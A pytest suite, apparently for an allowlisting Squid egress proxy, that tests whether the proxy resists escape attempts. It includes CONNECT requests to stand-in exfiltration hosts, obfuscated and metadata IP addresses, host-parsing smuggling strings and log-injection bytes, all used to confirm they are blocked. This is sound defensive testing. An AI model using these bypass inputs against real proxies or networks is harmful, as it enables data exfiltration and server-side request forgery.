"""The proxy, judged at the sink: each way out is tried against the rules, and again without the rule that stops it."""

from __future__ import annotations

import contextlib
import json
import os
import shutil
import socket
import ssl
import uuid
from collections.abc import Callable, Iterator
from dataclasses import dataclass

import pytest

from paude.egress import blocked, squid
from paude.egress.allowlist import Allowlist
from world import lab, zone
from world.client import Seen, World
from world.visit import blind, fetch, trusting, visit

pytest_plugins = ("world.fixtures",)
pytestmark = [
    pytest.mark.podman,
    pytest.mark.skipif(os.geteuid() != 0 or shutil.which("podman") is None, reason="needs root and podman"),
]

LIST = Allowlist(
    (
        "allowed.test",
        "other.test",
        "private.test",
        "shared.test",
        "metadata.test",
        "loopback.test",
        "loopback6.test",
        "unspecified.test",
        "mixed.test",
        "mapped.test",
        "flip.test",
        "missing.test",
        "*.wild.test",
    )
)


@pytest.fixture(scope="module")
def proxy(world: World) -> Iterator[lab.Proxy]:
    with lab.lab() as place, lab.proxy(place, squid.files(LIST)) as running:
        yield running


# --- what is allowed -------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("host", ["allowed.test", "other.test", "a.wild.test"])
def test_an_allowed_host_is_reached_and_its_own_certificate_is_seen(world: World, proxy: lab.Proxy, host: str) -> None:
    with world.watching(proxy.lab.address) as seen:
        connection, status = proxy.tunnel(host)
        assert status == 200
        assert fetch(connection, trusting(world), host, host).endswith(f"hello from {host}\n".encode())
    assert [request["host"] for request in seen.asked(host)] == [host]


def test_an_allowed_host_in_capitals_is_the_same_host(world: World, proxy: lab.Proxy) -> None:
    with world.watching(proxy.lab.address) as seen:
        assert visit(proxy, "ALLOWED.test", "allowed.test")
    assert seen.asked("allowed.test")


# --- what is not -----------------------------------------------------------------------------------------------------


@dataclass(frozen=True)
class Probe:
    """A way out: how it is tried, how the fake internet would notice, and the rule without which it is open."""

    name: str
    go: Callable[[lab.Proxy], object]
    noticed: Callable[[Seen], object]
    without: dict[str, str]

    def __str__(self) -> str:
        return self.name


def drop(*lines: str) -> dict[str, str]:
    return {rf"^{line}\n": "" for line in lines}


def ask(request: str) -> Callable[[lab.Proxy], object]:
    return lambda proxy: proxy.status(request.encode("latin-1"))


def speak_ssh(proxy: lab.Proxy) -> None:
    connection, _ = proxy.tunnel("allowed.test")
    with connection, contextlib.suppress(OSError):
        connection.sendall(b"SSH-2.0-canary\r\n")
        connection.recv(4096)


def reached(where: str, port: int | None = None) -> Callable[[Seen], object]:
    return lambda seen: seen.hits(where, port)


PROBES = [
    Probe(
        "a host that is not listed",
        lambda proxy: visit(proxy, "forbidden.test", "forbidden.test"),
        reached("forbidden.test"),
        {"^http_access deny !listed$": "http_access allow CONNECT", "^ssl_bump terminate all$": "ssl_bump splice all"},
    ),
    Probe(
        "a look-up of a host that is not listed",
        ask("CONNECT data.exfil.test:443 HTTP/1.1\r\n\r\n"),
        lambda seen: seen.queries("exfil.test"),
        drop("http_access deny !listed"),
    ),
    Probe(
        "an address that claims an allowed name",
        ask(f"CONNECT {zone.LITERAL}:443 HTTP/1.1\r\n\r\n"),
        lambda seen: seen.queries("in-addr.arpa"),
        {**drop("http_access deny (?:address|!name)"), "^(acl allowed dstdomain) -n": r"\1"},
    ),
    Probe(
        "a name that leads to a private address",
        lambda proxy: visit(proxy, "private.test", "private.test"),
        reached(zone.PRIVATE),
        drop("http_access deny private"),
    ),
    Probe(
        "a name that leads to shared address space",
        lambda proxy: visit(proxy, "shared.test", "shared.test"),
        reached(zone.SHARED),
        drop("acl private dst 100.64.0.0/10"),
    ),
    Probe(
        "a name that leads to the metadata service",
        lambda proxy: visit(proxy, "metadata.test", "metadata.test"),
        reached(zone.METADATA),
        drop("acl private dst 169.254.0.0/16"),
    ),
    Probe(
        "another port",
        lambda proxy: visit(proxy, "allowed.test", "allowed.test", 8443),
        reached("allowed.test", 8443),
        drop("http_access deny !https"),
    ),
    Probe(
        "the port of ssh",
        lambda proxy: visit(proxy, "allowed.test", "allowed.test", 22),
        reached("allowed.test", 22),
        drop("http_access deny !https"),
    ),
    Probe(
        "a request that is no tunnel",
        ask("GET http://allowed.test:443/canary HTTP/1.1\r\nHost: allowed.test:443\r\n\r\n"),
        reached("allowed.test"),
        drop("http_access deny !CONNECT"),
    ),
    Probe(
        "a foreign server name",
        lambda proxy: visit(proxy, "allowed.test", "forbidden.test"),
        reached("allowed.test"),
        {r"^(ssl_bump splice hello to\d+) sni\d+": r"\1"},
    ),
    Probe(
        "the server name of another allowed host",
        lambda proxy: visit(proxy, "allowed.test", "other.test"),
        reached("allowed.test"),
        {r"^(ssl_bump splice hello) to\d+": r"\1"},
    ),
    Probe(
        "no server name",
        lambda proxy: visit(proxy, "allowed.test", None),
        reached("allowed.test"),
        {" named$": ""},
    ),
    Probe(
        "what is left over when no rule fits",
        lambda proxy: visit(proxy, "allowed.test", "forbidden.test"),
        reached("allowed.test"),
        drop("ssl_bump terminate all"),
    ),
    Probe(
        "something that is not TLS",
        speak_ssh,
        lambda seen: seen.bytes_to("allowed.test"),
        {
            "^on_unsupported_protocol respond all$": "on_unsupported_protocol tunnel all",
            **drop("http_access deny !CONNECT"),
        },
    ),
]


@pytest.mark.parametrize("probe", PROBES, ids=str)
def test_it_does_not_get_out(world: World, proxy: lab.Proxy, probe: Probe) -> None:
    with world.watching(proxy.lab.address) as seen:
        probe.go(proxy)
    assert not probe.noticed(seen)
    assert seen.outside() == {}


@pytest.mark.parametrize("probe", PROBES, ids=str)
def test_it_gets_out_without_its_rule(world: World, place: lab.Lab, probe: Probe) -> None:
    """The positive control: a probe that could not reach the sink anyway would prove nothing."""
    with lab.proxy(place, squid.files(LIST), probe.without) as open_:
        with world.watching(place.address) as seen:
            probe.go(open_)
        assert probe.noticed(seen)


@pytest.mark.parametrize(
    "host",
    [
        zone.LITERAL,
        "3325256770",
        "0xc6336442",
        "0306.063.0144.0102",
        "0xc6.0x33.0x64.0x42",
        "198.51.25666",
        "198.3368002",
        "198.51.100.66.",
        "0",
        "127.1",
        "2130706433",
        "[::1]",
        "::1",
        "[::ffff:198.51.100.66]",
        "[::ffff:c633:6442]",
        "[2001:db8::1]",
        "[fe80::1%25eth0]",
        "127.0.0.1",
        "127.0.0.1:3130",
        "169.254.169.254",
        "localhost",
        "paude-proxy",
        "",
        ".",
        "*",
    ],
)
@pytest.mark.parametrize("request_line", ["CONNECT {}:443 HTTP/1.1", "GET https://{}/ HTTP/1.1"])
def test_an_address_is_refused_however_it_is_written(
    world: World, proxy: lab.Proxy, host: str, request_line: str
) -> None:
    with world.watching(proxy.lab.address) as seen:
        assert proxy.status((request_line.format(host) + "\r\n\r\n").encode()) in (0, 400, 403)
    assert seen.opened == {}


@pytest.mark.parametrize(
    "host",
    [
        "allowed.test.evil.test",
        "xallowed.test",
        "x.allowed.test",
        "allowed.tes",
        "test",
        "wild.test",
        "awild.test",
        "a.wild.test.evil.test",
        "allowed_test",
        "xn--allowed-.test",
        "a" * 63 + ".exfil.test",
        "a" * 64 + ".exfil.test",
        ".".join(["a" * 60] * 5) + ".test",
        "fence.paude.invalid",
    ],
)
def test_a_name_like_an_allowed_one_is_refused_and_not_looked_up(world: World, proxy: lab.Proxy, host: str) -> None:
    with world.watching(proxy.lab.address) as seen:
        assert proxy.status(f"CONNECT {host}:443 HTTP/1.1\r\n\r\n".encode()) in (0, 400, 403)
    assert seen.opened == {}


@pytest.mark.parametrize("port", ["0", "1", "22", "25", "80", "53", "444", "853", "8443", "65536", "-1"])
def test_only_port_443_is_open(world: World, proxy: lab.Proxy, port: str) -> None:
    with world.watching(proxy.lab.address) as seen:
        assert proxy.status(f"CONNECT allowed.test:{port} HTTP/1.1\r\n\r\n".encode()) in (0, 400, 403)
    assert seen.opened == {}


@pytest.mark.parametrize(
    "request_line",
    [
        "GET http://allowed.test/",
        "GET https://allowed.test/",
        "POST http://allowed.test/",
        "PUT http://allowed.test/",
        "TRACE http://allowed.test/",
        "PURGE http://allowed.test/",
        "OPTIONS *",
        "GET ftp://allowed.test/",
        "GET urn:allowed.test:x",
        "GET cache_object://127.0.0.1/info",
        "GET http://127.0.0.1:3128/squid-internal-mgr/menu",
        "GET /squid-internal-mgr/menu",
        "GET /squid-internal-static/icons/SN.png",
        "GET http://fence.paude.invalid:443/",
        "POST http://fence.paude.invalid/",
        "GET http://data.fence.paude.invalid/",
    ],
)
def test_nothing_but_a_tunnel_is_served(world: World, proxy: lab.Proxy, request_line: str) -> None:
    with world.watching(proxy.lab.address) as seen:
        status = proxy.status(f"{request_line} HTTP/1.1\r\nHost: allowed.test\r\nContent-Length: 0\r\n\r\n".encode())
    assert status in (0, 400, 403, 404, 501)
    assert seen.opened == {}


@pytest.mark.parametrize(
    "target",
    [
        b"allowed.test\x00.evil.test:443",
        b"allowed.test\x00:443",
        b"allowed.test\t.evil.test:443",
        b"forbidden.test@allowed.test:443",
        b"allowed.test@forbidden.test:443",
        b"allowed.test#forbidden.test:443",
        b"allowed.test?forbidden.test:443",
        b"allowed.test/forbidden.test:443",
        b"allowed.test\\forbidden.test:443",
        b"forbidden.test;allowed.test:443",
        b"allowed.test%00.evil.test:443",
        b"%61llowed.test:443",
        b"forbidden.test:443 allowed.test:443",
        b"allowed.test:443:443",
        b"allowed.test:443, forbidden.test:443",
        b"http://forbidden.test:443",
        b"allowed.test:443x",
        b"allowed.test:",
        b"allowed.test:8443:443",
        b"allowed.test\r\nHost: forbidden.test:443",
    ],
)
def test_a_target_that_two_parsers_could_read_differently_leads_nowhere_else(
    world: World, proxy: lab.Proxy, target: bytes
) -> None:
    with world.watching(proxy.lab.address) as seen:
        connection, answer = proxy.exchange(b"CONNECT " + target + b" HTTP/1.1\r\nHost: forbidden.test:443\r\n\r\n")
        with connection:
            if answer.startswith(b"HTTP/1.1 200"):
                fetch(connection, blind(), "forbidden.test", "forbidden.test")
    assert seen.outside() == {}
    assert {question["name"] for question in seen.questions} <= {"allowed.test"}


def test_what_a_host_header_says_does_not_count(world: World, proxy: lab.Proxy) -> None:
    with world.watching(proxy.lab.address) as seen:
        request = b"CONNECT forbidden.test:443 HTTP/1.1\r\nHost: allowed.test:443\r\nHost: allowed.test\r\n\r\n"
        assert proxy.status(request) in (400, 403)
    assert seen.opened == {}


@pytest.mark.parametrize(
    "host",
    [
        "private.test",
        "loopback.test",
        "loopback6.test",
        "unspecified.test",
        "mixed.test",
        "mapped.test",
        "missing.test",
    ],
)
def test_a_name_without_a_public_address_is_refused_before_a_tunnel(world: World, proxy: lab.Proxy, host: str) -> None:
    with world.watching(proxy.lab.address) as seen:
        connection, status = proxy.tunnel(host)
        connection.close()
    assert status == 403
    assert seen.outside() == {}


def test_a_name_that_changes_its_address_never_leads_to_a_private_one(world: World, proxy: lab.Proxy) -> None:
    with world.watching(proxy.lab.address) as seen:
        for _ in range(25):
            visit(proxy, "flip.test", "flip.test")
    assert seen.hits(zone.PRIVATE) == 0


# --- what the session's own proof makes of it -------------------------------------------------------------------------


def battery(proxy: lab.Proxy) -> dict[str, set[str]]:
    """What `paude verify` tries through the proxy, by what it saw; run where whatever leaks, leaks into the lab."""
    inside = ("ip", "netns", "exec", proxy.lab.name, "env", f"PAUDE_PROXY={proxy.lab.address}")
    found: dict[str, set[str]] = {}
    for probe in json.loads(lab.run(*inside, lab.PROGRAM, "verify", "allowed.test", check=False)):
        found.setdefault(probe["result"], set()).add(probe["name"])
    return found


THROUGH = {"unlisted name", "no tunnel", "address", "management", "port", "foreign server name", "no server name"}
ANYTHING = {"^http_access deny (?:address|!name|!listed|!resolved|private)\n": "", "^http_access allow listed$": ""}


def test_the_proof_finds_nothing_through_a_proxy_with_all_its_rules(proxy: lab.Proxy) -> None:
    found = battery(proxy)
    assert found["closed"] >= THROUGH | {"not TLS"}
    assert not found.get("open", set()) & (THROUGH | {"not TLS"})


@pytest.mark.parametrize(
    ("probe", "without"),
    [
        ("unlisted name", {**ANYTHING, "^http_access deny all$": "http_access allow CONNECT"}),
        ("address", {**ANYTHING, "^http_access deny all$": "http_access allow CONNECT"}),
        ("port", drop("http_access deny !https")),
        (
            "no tunnel",
            {**ANYTHING, **drop("http_access deny !CONNECT", "http_access deny !https"), " deny all$": " allow all"},
        ),
        ("foreign server name", {r"^(ssl_bump splice hello to\d+) sni\d+": r"\1"}),
        ("no server name", {" named$": ""}),
    ],
)
def test_the_proof_finds_each_rule_that_is_missing(place: lab.Lab, probe: str, without: dict[str, str]) -> None:
    """Not so "not TLS": a far end that hangs up cannot be told from the proxy, so only the sink judges that."""
    with lab.proxy(place, squid.files(LIST), without) as open_:
        assert probe in battery(open_).get("open", set())


# --- what it says ----------------------------------------------------------------------------------------------------


def test_the_fence_learns_the_resolvers_and_the_list(world: World, proxy: lab.Proxy) -> None:
    with world.watching(proxy.lab.address) as seen:
        connection, answer = proxy.exchange(
            b"GET http://fence.paude.invalid/ HTTP/1.1\r\nHost: fence.paude.invalid\r\nConnection: close\r\n\r\n"
        )
        with connection:
            head, _, body = answer.partition(b"\r\n\r\n")
            while data := connection.recv(4096):
                body += data
    assert head.startswith(b"HTTP/1.1 403 ")
    known = json.loads(body)
    assert known == {
        "resolvers": [zone.RESOLVER],
        "addresses": [proxy.lab.address, proxy.lab.address6],
        "allowlist": LIST.digest,
    }
    assert seen.opened == {}


def test_a_refusal_says_what_to_do(proxy: lab.Proxy) -> None:
    connection, answer = proxy.exchange(b"CONNECT evil.exfil.test:443 HTTP/1.1\r\n\r\n")
    connection.close()
    assert b"paude allow evil.exfil.test" in answer
    assert b"5.7" not in answer


def test_the_log_tells_what_was_refused_and_nothing_that_was_said(world: World, proxy: lab.Proxy) -> None:
    name = f"{uuid.uuid4().hex}.exfil.test"
    secret = uuid.uuid4().hex
    proxy.status(f'CONNECT {name}:443 HTTP/1.1\r\nUser-Agent: \x1b[31m{secret}"\r\n\r\n'.encode())
    proxy.status(f'GET http://{name}/{secret}?"{secret} HTTP/1.1\r\nHost: x\r\n\r\n'.encode())
    proxy.status(b'CONNECT \x1b[2J"\\,{}.exfil.test:443 HTTP/1.1\r\n\r\n')
    visit(proxy, "allowed.test", name)
    lines = proxy.log()
    assert all(isinstance(json.loads(line), dict) and line.isprintable() for line in lines)
    assert secret not in "".join(lines)
    refused = {(one.host, one.port, one.method): one for one in blocked.denied(lines)}
    assert (name, 443, "CONNECT") in refused
    assert ("allowed.test", 443, "CONNECT") in refused
    assert "fence.paude.invalid" not in {json.loads(line)["host"] for line in lines}


def test_every_refusal_has_its_client_whatever_the_client_claims(proxy: lab.Proxy) -> None:
    """Refusals at the inner door too: there the peer is the proxy itself."""
    name = f"{uuid.uuid4().hex}.exfil.test"
    claimed = b"CONNECT other.test:443 HTTP/1.1\r\nX-Forwarded-For: 198.51.100.99\r\n\r\n"
    connection, answer = proxy.exchange(claimed)
    with connection:
        assert answer.startswith(b"HTTP/1.1 200")
        fetch(connection, blind(), name, name)
    (entry,) = [json.loads(line) for line in proxy.log() if name in line]
    assert entry["door"] == "3130"
    assert entry["client"] == place_of(proxy)


def test_a_server_name_cannot_forge_a_line_of_the_log(proxy: lab.Proxy) -> None:
    """A ClientHello may hold any bytes for a name; what reads the log must find one object a line."""
    outgoing = ssl.MemoryBIO()
    name = f"AAAAAA-{uuid.uuid4().hex}.test"
    session = blind().wrap_bio(ssl.MemoryBIO(), outgoing, server_hostname=name)
    with contextlib.suppress(ssl.SSLWantReadError):
        session.do_handshake()
    hello = outgoing.read().replace(b"AAAAAA", b'"}\n{"\x1b', 1)
    connection, status = proxy.tunnel("other.test")
    with connection, contextlib.suppress(OSError):
        assert status == 200
        connection.sendall(hello)
        connection.recv(4096)
    lines = [line for line in proxy.log() if name[7:] in line]
    assert lines, "the control: the rest of the name is in the log"
    assert all(isinstance(json.loads(line), dict) and line.isprintable() for line in lines)


def place_of(proxy: lab.Proxy) -> str:
    """The address from which this test talks to the proxy."""
    with socket.create_connection(proxy.address) as connection:
        return str(connection.getsockname()[0])


# --- the list itself -------------------------------------------------------------------------------------------------


def test_a_tunnel_that_was_ended_counts_as_refused_and_one_that_was_used_does_not(proxy: lab.Proxy) -> None:
    def refused() -> int:
        return sum(one.count for one in blocked.denied(proxy.log()) if one.host == "other.test")

    before = refused()
    assert visit(proxy, "other.test", "other.test")
    assert refused() == before
    visit(proxy, "other.test", None)
    visit(proxy, "other.test", "allowed.test")
    connection, _ = proxy.tunnel("other.test")
    with connection, contextlib.suppress(OSError):
        connection.sendall(b"SSH-2.0-canary\r\n")
        connection.recv(4096)
    assert refused() == before + 3


def test_an_empty_list_lets_nothing_through(world: World, place: lab.Lab) -> None:
    with lab.proxy(place, squid.files(Allowlist())) as closed, world.watching(place.address) as seen:
        for host in ("allowed.test", "other.test", "private.test"):
            connection, status = closed.tunnel(host)
            connection.close()
            assert status == 403
    assert seen.opened == {}


def test_the_very_first_request_is_served(world: World, place: lab.Lab) -> None:
    with lab.proxy(place, squid.files(LIST)) as fresh:
        assert visit(fresh, "allowed.test", "allowed.test")


@pytest.mark.parametrize("files", [{}, {"squid.conf": "", "allowlist": "# 0\n"}, {"squid.conf": "nonsense\n"}])
def test_without_a_usable_configuration_it_does_not_run(place: lab.Lab, files: dict[str, str]) -> None:
    with pytest.raises(AssertionError, match="not ready"), lab.proxy(place, files):
        pass
